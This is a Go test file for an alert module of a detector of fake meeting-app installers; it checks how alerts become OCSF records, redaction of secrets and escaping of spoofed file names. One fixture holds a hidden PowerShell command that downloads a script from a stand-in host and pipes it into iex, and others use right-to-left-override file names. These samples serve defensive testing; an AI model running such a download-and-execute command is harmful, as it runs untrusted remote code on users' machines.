package alert

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"meetguard"
)

// launchAlert is a pasted command with the processes above it.
func launchAlert() meetguard.Alert {
	p := &meetguard.Process{
		PID: 4711, PPID: 4000, OS: "windows", Exe: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		CommandLine: `powershell -w hidden -c "iwr https://teams-update.invalid/fix?id=0123456789abcdef0123 | iex" -token s3cret`,
		Cwd:         `C:\Users\ana`, User: `CORP\ana`, Started: testTime,
		Ancestors: []meetguard.Process{{PID: 4000, Exe: `C:\Windows\explorer.exe`, CommandLine: "explorer --token topsecret"}, {PID: 1, Exe: ""}},
	}
	return meetguard.Alert{
		Time:  testTime,
		Event: meetguard.Event{Time: testTime, Kind: meetguard.ProcessStarted, Path: p.Exe, Source: "poll", Process: p},
		Facts: meetguard.Facts{
			Path: p.Exe, Format: meetguard.FormatPE, Process: p, SHA256: strings.Repeat("ab", 32),
			Signature: meetguard.Signature{Status: meetguard.SignatureValid, Subject: "Microsoft Corporation", Issuer: "Microsoft Code Signing PCA", Serial: "33000001", SignedAt: testTime},
		},
		Verdict: meetguard.Verdict{Level: meetguard.Suspicious, Brand: "msteams", Score: 61, Findings: []meetguard.Finding{
			{Rule: "paste.cradle", Evidence: "A command pasted by hand fetches and runs a script.", Technique: "T1204.004", Weight: 5},
			{Rule: "script.encoded", Evidence: "Hidden window.", Technique: "T1999.999"},
			{Rule: "script.odd", Evidence: "", Technique: "not a technique"},
		}},
	}
}

func containerAlert() meetguard.Alert {
	a := fileAlert("Zoom.zip")
	a.Facts.Format = meetguard.FormatZip
	a.Facts.Members = []meetguard.Facts{{Path: "Zoom/Setup.exe", Size: 5, SHA256: strings.Repeat("cd", 32), Format: meetguard.FormatPE, Signature: meetguard.Signature{Status: meetguard.SignatureUntrusted, Chain: "expired"}}}
	a.Verdict.Inner = "Zoom/Setup.exe"
	return a
}

func oddAlert() meetguard.Alert {
	a := fileAlert("Zoom\u202eexe.pdf\n\x1b[2J\xff.exe")
	a.Facts.Claims[0].Text = "Zoom\u202e\x00"
	a.Facts.Origin.Host = "zoom\u200b.invalid"
	a.Verdict.Findings[1].Evidence = "The name \u202e is odd\n{\"forged\":true}."
	return a
}

// hugeAlert is as large as a hostile file could make it.
func hugeAlert() meetguard.Alert {
	long := strings.Repeat("\u202e\"\\\x01", 5000)
	a := launchAlert()
	a.Facts.Path = strings.Repeat("\xff\"\\", maxExact/3)
	p := *a.Facts.Process
	p.Exe, p.CommandLine, p.Cwd, p.User = long, long, long, long
	p.Ancestors = nil
	for range 100 {
		p.Ancestors = append(p.Ancestors, meetguard.Process{PID: 1 << 30, Exe: long})
		a.Verdict.Findings = append(a.Verdict.Findings, meetguard.Finding{Rule: long, Evidence: long, Technique: "T1036.001"})
		a.Facts.Gaps = append(a.Facts.Gaps, meetguard.Gap{Fact: long, Reason: long})
		a.Facts.Matches = append(a.Facts.Matches, meetguard.Match{Rule: long})
	}
	a.Facts.Process, a.Event.Process = &p, &p
	a.Facts.Signature = meetguard.Signature{Status: meetguard.SignatureInvalid, Subject: long, Issuer: long, Serial: long, TeamID: long}
	a.Facts.Claims = []meetguard.Claim{{Text: long, Source: meetguard.ClaimMSIMaker}}
	a.Facts.Origin.Host, a.Verdict.Inner, a.Event.Source = long, long, long
	return a
}

// everyAlert has one alert of each kind the agent can make.
func everyAlert() map[string]meetguard.Alert {
	out := map[string]meetguard.Alert{
		"file": fileAlert("ZoomInstallerFull.exe"), "launch": launchAlert(), "container": containerAlert(), "odd": oddAlert(), "huge": hugeAlert(),
		"empty": {},
	}
	gaps := fileAlert("big.zip")
	gaps.Facts.SHA256, gaps.Facts.Gaps = "", []meetguard.Gap{{Fact: "members", Reason: "limit of 10000 entries", Blinding: true}}
	gaps.Verdict = meetguard.Verdict{Level: meetguard.Incomplete}
	out["gaps"] = gaps
	bare := fileAlert("x")
	bare.Facts = meetguard.Facts{Path: "/x"}
	bare.Verdict.Brand = ""
	out["no signature"] = bare
	event := launchAlert()
	event.Facts = meetguard.Facts{}
	out["launch without facts"] = event
	app := fileAlert("zoom.us.app")
	app.Facts.Path, app.Facts.Format = "/Volumes/Zoom/zoom.us.app/", meetguard.FormatApp
	app.Facts.Signature = meetguard.Signature{Status: meetguard.SignatureAdhoc, SigningID: "us.zoom.xos"}
	out["app"] = app
	for _, level := range []meetguard.Level{meetguard.Clean, meetguard.Incomplete, meetguard.Suspicious, meetguard.Malicious} {
		a := fileAlert("level.exe")
		a.Verdict.Level = level
		out["level "+string(level)] = a
	}
	for id := range techniques {
		a := fileAlert("t.exe")
		a.Verdict.Findings[0].Technique = id
		out["technique "+id] = a
	}
	for _, s := range []meetguard.SignatureStatus{"", "unknown", "unsigned", "adhoc", "valid", "invalid", "untrusted"} {
		a := fileAlert("s.exe")
		a.Facts.Signature = meetguard.Signature{Status: s, Subject: "S", Issuer: "I", Serial: "01", TeamID: "BJ4HAAB9B3"}
		out["signature "+string(s)] = a
	}
	return out
}

func schema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	path := os.Getenv("MEETGUARD_OCSF_SCHEMA")
	if path == "" {
		path = filepath.FromSlash("../../../shared/data/ocsf-2004.schema.json")
	}
	if _, err := os.Stat(path); errors.Is(err, fs.ErrNotExist) {
		t.Logf("OCSF SCHEMA ABSENT: %s is not there, records are held against the required fields only; set MEETGUARD_OCSF_SCHEMA", path)
		return nil
	}
	s, err := jsonschema.NewCompiler().Compile(path)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func document(t *testing.T, r Record) map[string]any {
	t.Helper()
	line, err := encode(r)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(line))
	if err != nil {
		t.Fatal(err)
	}
	return doc.(map[string]any)
}

var requiredAtTop = []string{"activity_id", "category_uid", "class_uid", "finding_info", "metadata", "severity_id", "time", "type_uid"}

func TestEveryRecordIsValid(t *testing.T) {
	s := schema(t)
	hosts := []meetguard.Host{testHost, {}, {OS: "plan9"}, {Name: "m\u202eac", UID: "u", OS: "darwin"}}
	for name, a := range everyAlert() {
		for _, host := range hosts {
			r := NewRecord(host, testProduct, a)
			doc := document(t, r)
			for _, key := range requiredAtTop {
				if _, ok := doc[key]; !ok {
					t.Errorf("%s: no %s", name, key)
				}
			}
			if s != nil {
				if err := s.Validate(doc); err != nil {
					t.Errorf("%s: %v", name, err)
				}
			}
			if line, _ := encode(r); len(line) > MaxRecord-200 || firstUnsafe(string(line)) >= 0 {
				t.Errorf("%s: %d bytes, unsafe text at %d", name, len(line), firstUnsafe(string(line)))
			}
		}
	}
}

// TestSchemaRejectsMutants shows that the schema would notice.
func TestSchemaRejectsMutants(t *testing.T) {
	s := schema(t)
	if s == nil {
		return
	}
	mutants := map[string]func(map[string]any){
		"no finding_info":      func(d map[string]any) { delete(d, "finding_info") },
		"unknown attribute":    func(d map[string]any) { d["verdict"] = "bad" },
		"severity 42":          func(d map[string]any) { d["severity_id"] = 42 },
		"wrong type_uid":       func(d map[string]any) { d["type_uid"] = 200601 },
		"file without type_id": func(d map[string]any) { delete(evidence(d)["file"].(map[string]any), "type_id") },
		"empty evidence":       func(d map[string]any) { d["evidences"] = []any{map[string]any{}} },
		"time as text":         func(d map[string]any) { d["time"] = "2026-11-22" },
		"url without string":   func(d map[string]any) { delete(evidence(d)["url"].(map[string]any), "url_string") },
		"unmapped as text":     func(d map[string]any) { d["unmapped"] = "x" },
	}
	for name, mutate := range mutants {
		doc := document(t, NewRecord(testHost, testProduct, fileAlert("a.exe")))
		mutate(doc)
		if s.Validate(doc) == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func evidence(doc map[string]any) map[string]any {
	return doc["evidences"].([]any)[0].(map[string]any)
}

func TestRecordOfAFile(t *testing.T) {
	r := NewRecord(testHost, testProduct, fileAlert("ZoomInstallerFull.exe"))
	u := r.Unmapped
	got := []string{r.Message, r.FindingInfo.Title, r.Severity, r.Metadata.EventCode, u.Level, u.Brand, u.Rule, u.Path, u.Format, u.Signature, u.SourceHost, u.PathB64}
	want := []string{
		"Fake Zoom installer: It calls itself Zoom and is not signed", "Fake Zoom installer: It calls itself Zoom and is not signed", "High", "brand.unsigned",
		"malicious", "zoom", "brand.unsigned", `C:\Users\ana\Downloads\ZoomInstallerFull.exe`, "pe", "unsigned", "zoom-meeting.invalid", "",
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("field %d = %q, want %q", i, got[i], want[i])
		}
	}
	if r.FindingInfo.Desc != "It was downloaded from zoom-meeting.invalid, which is not Zoom's. It calls itself Zoom and is not signed." {
		t.Errorf("desc = %q", r.FindingInfo.Desc)
	}
	if len(u.Reasons) != 2 || r.RiskScore != 88 || u.Score != 88 || r.Time != testTime.UnixMilli() {
		t.Errorf("reasons %q, score %d, time %d", u.Reasons, r.RiskScore, r.Time)
	}
	if at := r.FindingInfo.Attacks[1]; at.Tactic.UID != "TA0005" || at.Technique.UID != "T1036" || at.SubTechnique.Name != "Invalid Code Signature" {
		t.Errorf("attack = %+v", at)
	}
}

func TestRecordOfALaunchTellsNoSecrets(t *testing.T) {
	r := NewRecord(testHost, testProduct, launchAlert())
	line, err := encode(r)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []string{"0123456789abcdef0123", "s3cret", "topsecret", "fix?id"} {
		if bytes.Contains(line, []byte(secret)) {
			t.Errorf("the record holds %q", secret)
		}
	}
	p := r.Evidences[0].Process
	if p.PID != 4711 || len(p.Ancestry) != 2 || p.Ancestry[0].Name != "explorer.exe" || r.Unmapped.User != `CORP\ana` || r.Unmapped.PID != 4711 {
		t.Errorf("process = %+v, unmapped %+v", p, r.Unmapped)
	}
	if !strings.Contains(r.Unmapped.CommandLine, "https://teams-update.invalid/… | iex") {
		t.Errorf("command line = %q", r.Unmapped.CommandLine)
	}
	if !strings.HasPrefix(r.Message, "Possibly fake Microsoft Teams program: A command pasted by hand") {
		t.Errorf("message = %q", r.Message)
	}
}

func TestOddNameIsEscapedAndKept(t *testing.T) {
	a := oddAlert()
	r := NewRecord(testHost, testProduct, a)
	if want := `C:\Users\ana\Downloads\Zoom\u{202e}exe.pdf\x0a\x1b[2J\xff.exe`; r.Unmapped.Path != want {
		t.Errorf("path = %q, want %q", r.Unmapped.Path, want)
	}
	if exact, err := base64.StdEncoding.DecodeString(r.Unmapped.PathB64); err != nil || string(exact) != a.Facts.Path {
		t.Errorf("path_b64 = %q, %v", exact, err)
	}
}

func TestRecordSurvivesJSON(t *testing.T) {
	for name, a := range everyAlert() {
		r := NewRecord(testHost, testProduct, a)
		line, _ := encode(r)
		var back Record
		if err := json.Unmarshal(line, &back); err != nil {
			t.Fatal(err)
		}
		if again, _ := encode(back); !bytes.Equal(line, again) {
			t.Errorf("%s: changed on the way", name)
		}
	}
}

var reUUID = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)

func TestRecordUID(t *testing.T) {
	uid := func(host meetguard.Host, a meetguard.Alert) string {
		return NewRecord(host, testProduct, a).Metadata.UID
	}
	first := uid(testHost, launchAlert())
	if !reUUID.MatchString(first) {
		t.Errorf("uid = %q", first)
	}
	same := map[string]func(*meetguard.Alert){
		"time": func(a *meetguard.Alert) { a.Time = a.Time.Add(time.Hour) },
		"pid":  func(a *meetguard.Alert) { a.Facts.Process.PID++ },
		"order of findings": func(a *meetguard.Alert) {
			f := a.Verdict.Findings
			f[0], f[1] = f[1], f[0]
		},
		"score": func(a *meetguard.Alert) { a.Verdict.Score++ },
	}
	for name, change := range same {
		a := launchAlert()
		if change(&a); uid(testHost, a) != first {
			t.Errorf("%s changes the uid", name)
		}
	}
	other := map[string]func(*meetguard.Alert){
		"command line": func(a *meetguard.Alert) { a.Facts.Process.CommandLine += "x" },
		"executable":   func(a *meetguard.Alert) { a.Facts.Process.Exe += "x" },
		"hash":         func(a *meetguard.Alert) { a.Facts.SHA256 = "" },
		"level":        func(a *meetguard.Alert) { a.Verdict.Level = meetguard.Malicious },
		"rules":        func(a *meetguard.Alert) { a.Verdict.Findings = a.Verdict.Findings[:1] },
		"kind":         func(a *meetguard.Alert) { a.Event.Kind = meetguard.FileLanded },
	}
	for name, change := range other {
		a := launchAlert()
		if change(&a); uid(testHost, a) == first {
			t.Errorf("%s does not change the uid", name)
		}
	}
	if uid(meetguard.Host{UID: "other"}, launchAlert()) == first {
		t.Error("another host has the same uid")
	}
}

func TestFindingUIDIsIndependentOfThePath(t *testing.T) {
	a, b := fileAlert("a.exe"), fileAlert("b.exe")
	ra, rb := NewRecord(testHost, testProduct, a), NewRecord(testHost, testProduct, b)
	if ra.FindingInfo.UID != rb.FindingInfo.UID || ra.Metadata.UID == rb.Metadata.UID {
		t.Errorf("findings %s and %s, records %s and %s", ra.FindingInfo.UID, rb.FindingInfo.UID, ra.Metadata.UID, rb.Metadata.UID)
	}
	a.Facts.SHA256, b.Facts.SHA256 = "", ""
	if findingUID(testHost, a) == findingUID(testHost, b) {
		t.Error("two unreadable files are one finding")
	}
}

func TestHeadlines(t *testing.T) {
	tests := []struct {
		brand, want string
		level       meetguard.Level
		format      meetguard.Format
	}{
		{"zoom", "Fake Zoom disk image", meetguard.Malicious, meetguard.FormatDMG},
		{"msteams", "Possibly fake Microsoft Teams script", meetguard.Suspicious, meetguard.FormatAppleScript},
		{"", "Suspicious shortcut", meetguard.Suspicious, meetguard.FormatShortcut},
		{"", "Malicious file", meetguard.Malicious, meetguard.FormatOther},
		{"webex", "Could not judge Webex archive", meetguard.Incomplete, meetguard.FormatRar},
	}
	for _, tt := range tests {
		a := fileAlert("x")
		a.Verdict.Brand, a.Verdict.Level, a.Facts.Format = tt.brand, tt.level, tt.format
		if got := headline(a); got != tt.want {
			t.Errorf("headline = %q, want %q", got, tt.want)
		}
	}
}
